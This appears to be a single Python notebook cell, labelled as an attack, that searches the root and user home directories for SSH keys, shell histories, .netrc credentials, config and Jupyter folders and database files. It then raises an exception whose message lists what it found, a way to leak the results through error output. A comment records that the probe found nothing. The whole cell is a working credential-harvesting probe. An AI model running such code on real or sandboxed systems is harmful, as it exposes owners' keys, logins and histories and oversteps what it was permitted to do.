# attack: keys, histories and settings in the homes of this machine
# told: RuntimeError: found: \[\]
# %%
import glob
import os

found = []
for home in ("/root", "/home/*", os.path.expanduser("~"), os.path.expanduser("~root")):
    for name in (".ssh/*", ".bash_history", ".bashrc", ".netrc", ".config/*", ".jupyter/*", "*.db"):
        found += glob.glob(f"{home}/{name}")
raise RuntimeError(f"found: {found}")
